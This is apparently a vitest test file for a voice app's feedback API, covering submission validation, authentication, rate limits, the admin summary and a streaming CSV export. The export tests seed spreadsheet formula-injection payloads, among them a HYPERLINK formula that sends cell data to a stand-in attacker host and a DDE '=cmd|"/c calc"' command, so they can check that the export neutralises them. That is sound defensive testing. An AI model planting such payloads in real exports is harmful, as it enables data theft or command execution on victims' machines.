import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { feedback } from '../src/db/schema/index.js';
import { feedbackCsv } from '../src/modules/feedback/export.js';
import { feedbackRepo } from '../src/modules/feedback/repo.js';
import { FEEDBACK_LIMIT } from '../src/modules/feedback/routes.js';
import type { FeedbackDto, SummaryDto } from '../src/modules/feedback/schema.js';
import { createTestApp, type TestApp } from './helpers/app.js';
import { bearer, createUser, dataOf, errorOf, type TestUser } from './helpers/factories.js';
import { parseCsv } from './helpers/csv.js';

const DAY = 24 * 60 * 60 * 1000;
const HEADER = 'id,created_at,user_id,session_id,rating,category,comments';
const valid = { session_id: 'voice-session-1', rating: 4, category: 'voice_quality' };

describe.each(['postgres', 'pglite'] as const)('feedback (%s)', (backend) => {
  let t: TestApp;
  let clock = Date.now();
  let alice: TestUser;
  let admin: TestUser;
  beforeAll(async () => {
    t = await createTestApp({ backend, now: () => new Date(clock) });
    alice = await createUser(t.app, t.deps);
    admin = await createUser(t.app, t.deps, { admin: true });
  });
  afterAll(() => t.close());

  const submit = (user: TestUser | null, payload: unknown, headers: Record<string, string> = {}) =>
    t.app.inject({
      method: 'POST',
      url: '/api/feedback',
      headers: { ...(user === null ? {} : bearer(user.access)), ...headers },
      ...(typeof payload === 'string' ? { body: payload } : { payload: payload as object }),
    });
  const get = (user: TestUser | null, url: string) =>
    t.app.inject({ method: 'GET', url, headers: user === null ? {} : bearer(user.access) });
  const summary = async (query = '') =>
    dataOf<SummaryDto>(await get(admin, `/api/admin/feedback/summary${query}`));
  /** Stores a row as if it had been submitted `ageMs` before the clock. */
  const seed = (user: TestUser, rating: number, category: string, ageMs = 0, comments?: string) =>
    feedbackRepo.insert(t.deps.database.db, {
      id: randomUUID(),
      userId: user.id,
      sessionId: `s-${randomUUID()}`,
      rating,
      category,
      comments: comments ?? null,
      createdAt: new Date(clock - ageMs),
    });

  describe('POST /api/feedback', () => {
    it('stores the feedback under the caller and answers 201 with it', async () => {
      const res = await submit(alice, { ...valid, comments: 'Clear voice, a little slow.' });
      expect(res.statusCode, res.body).toBe(201);
      const body = dataOf<FeedbackDto>(res);
      expect(body).toEqual({
        id: expect.stringMatching(/^[0-9a-f-]{36}$/) as string,
        session_id: 'voice-session-1',
        rating: 4,
        category: 'voice_quality',
        comments: 'Clear voice, a little slow.',
        created_at: new Date(clock).toISOString(),
      });
      const rows = await t.deps.database.db.select().from(feedback);
      const stored = rows.find((r) => r.id === body.id);
      expect(stored?.userId).toBe(alice.id);
      expect(stored?.createdAt.getTime()).toBe(clock);
    });

    it('takes every category, no comments, null comments, and stores blank ones as null', async () => {
      for (const category of [
        'answer_quality',
        'voice_quality',
        'speech_recognition',
        'latency',
        'other',
      ]) {
        expect(dataOf<FeedbackDto>(await submit(alice, { ...valid, category })).category).toBe(
          category,
        );
      }
      for (const comments of [undefined, null, '', '  \n\t ']) {
        const body = dataOf<FeedbackDto>(await submit(alice, { ...valid, rating: 1, comments }));
        expect(body.comments).toBeNull();
      }
    });

    it('keeps unicode and line breaks as sent; counts characters, not UTF-16 units', async () => {
      const comments = 'Ärztin: „gut“ 👩‍⚕️ 日本語 مرحبا\r\nzweite Zeile\tmit Tab';
      const body = dataOf<FeedbackDto>(
        await submit(alice, { ...valid, session_id: 'séance-🎙️', comments }),
      );
      expect(body).toMatchObject({ session_id: 'séance-🎙️', comments });
      expect(
        dataOf<FeedbackDto>(await submit(alice, { ...valid, comments: 'x'.repeat(4000) })),
      ).toBeTruthy();
      expect(
        dataOf<FeedbackDto>(await submit(alice, { ...valid, comments: '😀'.repeat(4000) })),
      ).toBeTruthy();
      errorOf(await submit(alice, { ...valid, comments: '😀'.repeat(4001) }), 422);
      expect(
        dataOf<FeedbackDto>(await submit(alice, { ...valid, session_id: 'x'.repeat(128) })),
      ).toBeTruthy();
    });

    it.each([
      ['an empty object', {}, 'body'],
      ['no session_id', { rating: 3, category: 'other' }, 'body.session_id'],
      ['no rating', { session_id: 's', category: 'other' }, 'body.rating'],
      ['no category', { session_id: 's', rating: 3 }, 'body.category'],
      ['an extra field', { ...valid, user_id: randomUUID() }, 'body.user_id'],
      ['rating 0', { ...valid, rating: 0 }, 'body.rating'],
      ['rating 6', { ...valid, rating: 6 }, 'body.rating'],
      ['rating -1', { ...valid, rating: -1 }, 'body.rating'],
      ['rating 2.5', { ...valid, rating: 2.5 }, 'body.rating'],
      ['rating "5"', { ...valid, rating: '5' }, 'body.rating'],
      ['rating null', { ...valid, rating: null }, 'body.rating'],
      ['rating true', { ...valid, rating: true }, 'body.rating'],
      ['rating 1e300', { ...valid, rating: 1e300 }, 'body.rating'],
      ['an unknown category', { ...valid, category: 'sound' }, 'body.category'],
      ['an upper-case category', { ...valid, category: 'VOICE_QUALITY' }, 'body.category'],
      ['an empty category', { ...valid, category: '' }, 'body.category'],
      ['a numeric category', { ...valid, category: 5 }, 'body.category'],
      ['an empty session_id', { ...valid, session_id: '' }, 'body.session_id'],
      ['a blank session_id', { ...valid, session_id: '   ' }, 'body.session_id'],
      ['a 129-character session_id', { ...valid, session_id: 'x'.repeat(129) }, 'body.session_id'],
      ['a numeric session_id', { ...valid, session_id: 42 }, 'body.session_id'],
      ['a session_id with a NUL', { ...valid, session_id: 'a\u0000b' }, 'body.session_id'],
      ['comments of 4001 characters', { ...valid, comments: 'x'.repeat(4001) }, 'body.comments'],
      ['numeric comments', { ...valid, comments: 12 }, 'body.comments'],
      ['comments as an object', { ...valid, comments: { text: 'hi' } }, 'body.comments'],
      ['comments with a bell', { ...valid, comments: 'ding\u0007' }, 'body.comments'],
      ['comments with a lone surrogate', { ...valid, comments: 'a\ud800b' }, 'body.comments'],
      ['an array', [valid], 'body'],
    ])('refuses %s with 422', async (_label, payload, field) => {
      const before = (await t.deps.database.db.select().from(feedback)).length;
      const error = errorOf(await submit(alice, payload), 422);
      expect(error.code).toBe('VALIDATION_ERROR');
      const fields = (error.details as { field: string }[]).map((d) => d.field);
      expect(fields.some((f) => f === field || f.startsWith(`${field}.`) || field === 'body')).toBe(
        true,
      );
      expect((await t.deps.database.db.select().from(feedback)).length).toBe(before);
    });

    it('refuses malformed JSON, a JSON string, query parameters, other media and huge bodies', async () => {
      const json = { 'content-type': 'application/json' };
      expect(errorOf(await submit(alice, '{"rating": 4,', json), 422).code).toBe(
        'VALIDATION_ERROR',
      );
      errorOf(await submit(alice, '"feedback"', json), 422);
      errorOf(
        await t.app.inject({
          method: 'POST',
          url: '/api/feedback?rating=5',
          headers: bearer(alice.access),
          payload: valid,
        }),
        422,
      );
      errorOf(await submit(alice, 'rating=5', { 'content-type': 'text/plain' }), 415);
      const huge = JSON.stringify({ ...valid, comments: 'x'.repeat(2 * 1024 * 1024) });
      errorOf(await submit(alice, huge, json), 413);
    });

    it('needs a valid, unrevoked, unexpired token', async () => {
      expect(errorOf(await submit(null, valid), 401).code).toBe('UNAUTHORIZED');
      errorOf(await submit(null, valid, { authorization: 'Bearer not-a-token' }), 401);
      const bob = await createUser(t.app, t.deps);
      const out = await t.app.inject({
        method: 'POST',
        url: '/api/auth/logout',
        headers: bearer(bob.access),
      });
      expect(out.statusCode, out.body).toBe(200);
      errorOf(await submit(bob, valid), 401);
      const carol = await createUser(t.app, t.deps);
      clock += 16 * 60 * 1000;
      try {
        errorOf(await submit(carol, valid), 401);
      } finally {
        clock -= 16 * 60 * 1000;
      }
      // Administrators may give feedback too.
      expect((await submit(admin, valid)).statusCode).toBe(201);
    });

    it(`allows ${String(FEEDBACK_LIMIT.max)} submissions per user an hour; refused and invalid requests do not count`, async () => {
      const [dave, erin] = [await createUser(t.app, t.deps), await createUser(t.app, t.deps)];
      for (let i = 0; i < 5; i += 1) errorOf(await submit(dave, { ...valid, rating: 9 }), 422);
      for (let i = 0; i < FEEDBACK_LIMIT.max; i += 1) {
        const res = await submit(dave, valid);
        expect(res.statusCode, res.body).toBe(201);
        expect(res.headers['x-ratelimit-remaining']).toBe(String(FEEDBACK_LIMIT.max - i - 1));
      }
      const refused = await submit(dave, valid);
      expect(errorOf(refused, 429).code).toBe('RATE_LIMITED');
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
      expect(refused.headers['x-ratelimit-limit']).toBe(String(FEEDBACK_LIMIT.max));
      expect((await submit(erin, valid)).statusCode).toBe(201);
    });
  });

  describe('GET /api/admin/feedback/summary', () => {
    beforeEach(async () => {
      await t.deps.database.db.delete(feedback);
    });

    it('answers zeros, every category and rating, and a null mean when there is nothing', async () => {
      expect(await summary()).toEqual({
        days: 30,
        count: 0,
        average_rating: null,
        by_category: {
          answer_quality: 0,
          voice_quality: 0,
          speech_recognition: 0,
          latency: 0,
          other: 0,
        },
        by_rating: { '1': 0, '2': 0, '3': 0, '4': 0, '5': 0 },
      });
    });

    it('counts, averages (two decimals) and groups the window’s feedback', async () => {
      await seed(alice, 5, 'voice_quality', DAY);
      await seed(alice, 4, 'voice_quality', 2 * DAY);
      await seed(admin, 4, 'latency', 3 * DAY);
      await seed(alice, 1, 'answer_quality', 10 * DAY);
      await seed(alice, 2, 'other', 40 * DAY);
      await seed(alice, 3, 'latency', 400 * DAY);
      expect(await summary()).toEqual({
        days: 30,
        count: 4,
        average_rating: 3.5,
        by_category: {
          answer_quality: 1,
          voice_quality: 2,
          speech_recognition: 0,
          latency: 1,
          other: 0,
        },
        by_rating: { '1': 1, '2': 0, '3': 0, '4': 2, '5': 1 },
      });
      expect(await summary('?days=7')).toMatchObject({ days: 7, count: 3, average_rating: 4.33 });
      expect(await summary('?days=1')).toMatchObject({ count: 1, average_rating: 5 });
      expect(await summary('?days=365')).toMatchObject({ count: 5, average_rating: 3.2 });
    });

    it('includes a row exactly `days` old and leaves out one a millisecond older', async () => {
      await seed(alice, 5, 'other', 7 * DAY);
      await seed(alice, 1, 'other', 7 * DAY + 1);
      expect(await summary('?days=7')).toMatchObject({ count: 1, average_rating: 5 });
    });

    it.each(['days=0', 'days=366', 'days=-1', 'days=2.5', 'days=abc', 'days=', 'day=7', 'x=1'])(
      'refuses ?%s with 422',
      async (query) => {
        expect(errorOf(await get(admin, `/api/admin/feedback/summary?${query}`), 422).code).toBe(
          'VALIDATION_ERROR',
        );
      },
    );

    it('is for administrators only', async () => {
      errorOf(await get(null, '/api/admin/feedback/summary'), 401);
      expect(errorOf(await get(alice, '/api/admin/feedback/summary'), 403).code).toBe('FORBIDDEN');
    });
  });

  describe('GET /api/admin/feedback/export', () => {
    beforeEach(async () => {
      await t.deps.database.db.delete(feedback);
    });
    const exportCsv = (query = '', user: TestUser | null = admin) =>
      get(user, `/api/admin/feedback/export${query}`);

    it('streams the window as an RFC 4180 attachment, formula cells neutralised', async () => {
      const nasty = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        '-1+1',
        '+SUM(A1:A9)',
        '@cmd',
        'said "fine",\r\nthen left',
        'Ärztin 👩‍⚕️',
      ];
      for (const [i, comments] of nasty.entries()) {
        await seed(alice, (i % 5) + 1, 'other', (nasty.length - i) * 1000, comments);
      }
      await seed(alice, 3, 'latency', 40 * DAY, 'too old');
      const res = await exportCsv();
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      const date = new Date(clock).toISOString().slice(0, 10);
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename="feedback-${date}.csv"`,
      );
      expect(res.body.startsWith(`${HEADER}\r\n`)).toBe(true);
      const [header, ...rows] = parseCsv(res.body);
      expect(header?.join(',')).toBe(HEADER);
      expect(rows.map((r) => r[6])).toEqual([
        `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
        "'-1+1",
        "'+SUM(A1:A9)",
        "'@cmd",
        'said "fine",\r\nthen left',
        'Ärztin 👩‍⚕️',
      ]);
      expect(res.body).toContain('"said ""fine"",\r\nthen left"');
      const first = rows[0] ?? [];
      expect(first[1]).toBe(new Date(clock - 6000).toISOString());
      expect(first[2]).toBe(alice.id);
      expect(first[4]).toBe('1');
      expect(first[5]).toBe('other');
    });

    it('neutralises a session id that looks like a formula, and writes no comments as empty', async () => {
      await feedbackRepo.insert(t.deps.database.db, {
        id: randomUUID(),
        userId: alice.id,
        sessionId: '=cmd|"/c calc"!A1',
        rating: 2,
        category: 'other',
        comments: null,
        createdAt: new Date(clock),
      });
      const [, row] = parseCsv((await exportCsv('?format=csv&days=1')).body);
      expect(row?.[3]).toBe(`'=cmd|"/c calc"!A1`);
      expect(row?.[6]).toBe('');
    });

    it('answers only the header row when there is nothing', async () => {
      const res = await exportCsv('?days=365');
      expect(res.statusCode).toBe(200);
      expect(res.body).toBe(`${HEADER}\r\n`);
    });

    it('streams 5,000 rows page by page, oldest first, each exactly once', async () => {
      const rows = Array.from({ length: 5000 }, (_, i) => ({
        id: randomUUID(),
        userId: i % 2 === 0 ? alice.id : admin.id,
        sessionId: `bulk-${String(i)}`,
        rating: (i % 5) + 1,
        category: 'answer_quality',
        comments: i % 7 === 0 ? `line one\nline "${String(i)}"` : null,
        // Ten rows per millisecond: ties on created_at are ordered by id.
        createdAt: new Date(clock - DAY + Math.floor(i / 10)),
      }));
      for (let i = 0; i < rows.length; i += 1000) {
        await t.deps.database.db.insert(feedback).values(rows.slice(i, i + 1000));
      }
      const pages = vi.spyOn(feedbackRepo, 'exportPage');
      try {
        const res = await exportCsv('?days=2');
        expect(res.statusCode).toBe(200);
        const [, ...got] = parseCsv(res.body);
        expect(got).toHaveLength(5000);
        expect(new Set(got.map((r) => r[0])).size).toBe(5000);
        const expected = [...rows].sort(
          (a, b) => a.createdAt.getTime() - b.createdAt.getTime() || (a.id < b.id ? -1 : 1),
        );
        expect(got.map((r) => r[0])).toEqual(expected.map((r) => r.id));
        expect(got.find((r) => r[3] === 'bulk-7')?.[6]).toBe('line one\nline "7"');
        // 500 rows a page: ten full pages, then one that finds nothing more.
        expect(pages).toHaveBeenCalledTimes(11);
      } finally {
        pages.mockRestore();
      }
    });

    it('pages correctly through rows created in the same millisecond', async () => {
      const ids = new Set<string>();
      for (let i = 0; i < 7; i += 1) ids.add((await seed(alice, 3, 'other', 0)).id);
      const window = { since: new Date(clock - DAY), until: new Date(clock) };
      const stream = await feedbackCsv(t.deps.database.db, window, 2);
      let text = '';
      for await (const chunk of stream) text += String(chunk);
      const [, ...got] = parseCsv(text);
      expect(new Set(got.map((r) => r[0]))).toEqual(ids);
      expect(got).toHaveLength(7);
    });

    it.each([
      'format=json',
      'format=CSV',
      'format=',
      'format=csv&format=json',
      'days=0',
      'days=366',
      'days=x',
      'limit=5',
    ])('refuses ?%s with 422', async (query) => {
      expect(errorOf(await exportCsv(`?${query}`), 422).code).toBe('VALIDATION_ERROR');
    });

    it('is for administrators only', async () => {
      errorOf(await exportCsv('', null), 401);
      errorOf(await exportCsv('', alice), 403);
    });
  });
});
